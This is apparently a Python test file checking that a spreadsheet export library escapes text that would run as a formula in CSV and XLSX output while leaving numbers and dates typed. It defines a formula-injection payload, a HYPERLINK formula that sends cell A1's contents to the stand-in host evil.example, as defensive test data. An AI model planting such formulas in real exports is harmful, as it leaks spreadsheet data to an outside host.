"""The shared rule: text a spreadsheet would run as a formula is escaped, numbers are not."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from transferhub.lib.exports import csv_row, spreadsheet_safe, xlsx_append

ATTACK = '=HYPERLINK("https://evil.example/?x="&A1;"Details")'


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "@"]
)
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Muster GmbH", "", "a=b", " =1", "'quoted", "Kinder-Arbeit", 0, None, True]
)
def test_ordinary_values_stay_as_they_are(value):
    assert spreadsheet_safe(value) is value


@pytest.mark.parametrize("value", [-5, -2.5, "-5", "-2,5", "-1.25"])
def test_negative_numbers_stay_numbers(value):
    assert spreadsheet_safe(value) == value


def test_a_csv_row_is_escaped_cell_by_cell():
    assert csv_row(["Name", ATTACK, -3, "-3", "+49 231 1234"]) == [
        "Name",
        "'" + ATTACK,
        -3,
        "-3",
        "'+49 231 1234",
    ]


def test_an_xlsx_row_keeps_the_text_as_text_and_numbers_and_dates_typed():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, [ATTACK, "@SUM(A1)", -7, dt.date(2026, 3, 31), "Muster"])
    out = io.BytesIO()
    book.save(out)
    xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the file
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert cells[0].value == ATTACK  # shown exactly as typed, no visible apostrophe
    assert cells[0].data_type == "s" and cells[0].quotePrefix
    assert cells[1].value == "@SUM(A1)" and cells[1].quotePrefix
    assert cells[2].value == -7 and cells[2].data_type == "n"
    assert cells[3].value.date() == dt.date(2026, 3, 31)
    assert not cells[4].quotePrefix
